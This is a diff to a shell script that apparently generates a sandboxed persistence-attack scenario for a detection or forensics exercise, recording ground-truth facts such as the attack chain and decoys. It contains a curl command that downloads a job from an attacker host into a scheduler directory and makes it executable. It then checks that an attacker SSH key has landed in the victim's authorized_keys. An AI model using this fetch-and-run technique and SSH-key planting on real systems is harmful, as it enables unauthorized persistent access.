@@ -8,7 +8,9 @@
 work=$(realpath -m "$1"); nonce=$2
 mkdir -p "$work"/{srv,jobs,var,victim}
 sched_pid=
-trap 'kill $http_pid $sched_pid 2>/dev/null || true' EXIT
+attacker_host 4
+trap 'cleanup $http_pid $sched_pid' EXIT
+background_noise "$work"
 
 cat > "$work/jobs/10-rotate" <<JOB
 #!/bin/sh
@@ -29,7 +31,7 @@ sched_pid=$!
 sleep 1.2
 
 # The attack: the job is dropped in place; the scheduler runs it.
-curl -s -o "$work/jobs/50-update" "http://127.0.0.1:$http_port/50-update"
+curl -s -o "$work/jobs/50-update" "$url/50-update"
 chmod 755 "$work/jobs/50-update"
 for _ in $(seq 50); do
     grep -q "attacker-$nonce" "$work/victim/authorized_keys" && break
@@ -51,7 +53,7 @@ cat > "$work/facts.json" <<JSON
   "scenario": "persistence",
   "damaged": $(json_str "$work/victim/authorized_keys"),
   "detect_at": $detect_at,
-  "entry": "socket:127.0.0.1:$http_port",
+  "entry": "socket:$atk_ip:$http_port",
   "chain": $(json_list "50-update http" "/bin/sh $work/jobs/50-update"),
   "decoys": $(json_list "10-rotate" "rotate.log" "AAAAsync"),
   "modified": $(json_list "$work/jobs/50-update" "$work/victim/authorized_keys")
